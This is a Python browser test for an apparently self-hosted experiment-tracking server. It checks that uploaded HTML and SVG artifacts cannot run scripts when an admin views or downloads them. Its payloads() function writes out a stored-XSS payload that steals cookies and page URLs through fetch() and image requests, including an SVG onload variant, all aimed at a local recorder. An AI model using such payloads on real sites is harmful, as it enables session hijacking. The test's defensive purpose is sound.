"""Finding 3 in a real browser: HTML and SVG artifacts with a script run nothing in an admin's session.

A user's step and the run's controller hold an HTML artifact, an SVG artifact (also recorded
as an image, so the pages show it in an `<img>`) and an SVG debug image, each with a script
that would change the page title, open an alert and call a recorder on another loopback port.
An admin logs in and opens them every way the pages offer: the task page's artifact and plot
tabs, the run page's run info and STEP INFO, each Download link, and the download URLs typed
straight into the address bar, with and without `?inline=true`. Nothing may run.

The team server runs on a machine of its own; the run and its files come from alice's laptop
through HTTP, so every page and download serves bytes stored on the server.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from browser_helpers import TeamServer

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ADMIN, PASSWORD = "root", "root-password-1"


class Recorder:
    """A loopback HTTP server that notes every request a script would send it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder() -> Iterator[Recorder]:
    started = Recorder()
    yield started
    started.close()


def payloads(recorder: str) -> dict[str, bytes]:
    script = (
        f"document.title='pwned';alert('xss');"
        f"fetch('{recorder}/fetch?'+document.cookie,{{mode:'no-cors'}});"
        f"new Image().src='{recorder}/img?'+location.href;"
    )
    html = f"<!doctype html><title>report</title><script>{script}</script><p>report</p>"
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
        f'onload="{script.replace(chr(39), "&apos;")}"><script>{script}</script>'
        '<rect width="10" height="10"/></svg>'
    )
    return {".html": html.encode(), ".svg": svg.encode()}


# On the laptop: the payload files (put in its folder) uploaded to the server's storage as the
# artifacts and debug image of each of the run's tasks, with the records pointing at them.
PLANT = """
def plant(task_id):
    stored = {
        name: backend.upload_artifact_content(
            task_id, name, open(f"payload{ext}", "rb").read(), extension=ext
        )
        for name, ext in (("report", ".html"), ("drawing", ".svg"))
    }
    html, svg = stored["report"]["uri"], stored["drawing"]["uri"]
    records = [
        ArtifactRecord(
            task_id, "report", "file", uri=html, content_type="text/html", file_name="report.html"
        ),
        ArtifactRecord(task_id, "drawing", "file", uri=svg, content_type="image/svg+xml", file_name="d.svg"),
        ArtifactRecord(task_id, "figure", "image", uri=svg, content_type="image/svg+xml"),
    ]
    for record in records:
        backend.put_artifact(record)
    event = MetricEvent(task_id, "image", "sample", "svg", 0, None, {"artifact": {"uri": svg}})
    backend.add_events([event])

run = make_run(backend, {"prepare": [], "train": ["prepare"]}, states={"prepare": "completed"})
plant(run.steps["prepare"])
plant(run.id)
"""
NAMES = ["report", "drawing", "figure"]


def log_in(page: Any, server: TeamServer) -> None:
    page.goto(f"{server.url}/login")
    page.fill("input[name=username]", ADMIN)
    page.fill("input[name=password]", PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(lambda url: "/login" not in url)


def fetch_as_download(page: Any, url: str) -> None:
    """Type `url` into the address bar: the answer must be a download, never a page."""
    from playwright.sync_api import Error

    with page.expect_download() as caught:
        try:
            page.goto(url)
        except Error as exc:  # Chromium aborts a navigation that turns into a download
            assert "Download is starting" in str(exc) or "ERR_ABORTED" in str(exc), exc
    assert caught.value.suggested_filename


def open_every_link(page: Any, server: TeamServer, task_id: str, names: list[str], scope: str) -> None:
    links = page.locator(f"{scope} a[href*='/tasks/{task_id}/artifacts/']")
    links.first.wait_for()
    hrefs = {links.nth(i).get_attribute("href") for i in range(links.count())}
    assert hrefs == {f"/tasks/{task_id}/artifacts/{name}" for name in names}
    for i in range(links.count()):
        with page.expect_download():
            links.nth(i).click()


def test_uploaded_html_and_svg_run_no_script(
    page: Any, team_server: TeamServer, recorder: Recorder, browser: Any
) -> None:
    server = team_server
    server.server.cli("users", "add", ADMIN, "--admin", "--password", PASSWORD)
    for extension, data in payloads(recorder.url).items():
        (server.laptop.work / f"payload{extension}").write_bytes(data)
    run = server.make_run(PLANT)
    step_task = run.steps["prepare"]
    assert step_task
    step_names = run_names = NAMES
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.on(
        "page", lambda opened: opened.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    )
    log_in(page, server)

    # The task page: artifacts (previews and the image card) and plots (the debug image).
    page.goto(f"{server.url}/tasks/{step_task}?tab=artifacts")
    page.wait_for_selector("img.preview-image")
    page.wait_for_load_state("networkidle")
    open_every_link(page, server, step_task, step_names, "main")
    page.goto(f"{server.url}/tasks/{step_task}?tab=plots")
    page.wait_for_selector(".plots img")
    page.wait_for_load_state("networkidle")
    assert page.title() != "pwned"

    # The run page: RUN INFO holds the controller's artifacts, STEP INFO the step's.
    page.goto(f"{server.url}/runs/{run.id}")
    page.wait_for_selector("#info .eyebrow:has-text('Run info')")
    page.wait_for_load_state("networkidle")
    open_every_link(page, server, run.id, run_names, "#info")
    page.locator("#steps-list .vrow:has-text('prepare')").click()
    page.wait_for_selector("#info h2:text-is('prepare')")
    page.wait_for_load_state("networkidle")
    open_every_link(page, server, step_task, step_names, "#info")
    assert page.title() != "pwned"

    # Every URL typed straight into the address bar: downloads, never pages.
    for task_id, names in ((step_task, step_names), (run.id, run_names)):
        for name in names:
            for query in ("", "?inline=true"):
                fetch_as_download(page, f"{server.url}/tasks/{task_id}/artifacts/{name}{query}")
        fetch_as_download(page, f"{server.url}/tasks/{task_id}/images/0")

    page.goto(f"{server.url}/pipelines")
    page.wait_for_load_state("networkidle")
    assert dialogs == []
    assert recorder.hits == []
    assert all(opened.title() != "pwned" for opened in page.context.pages)
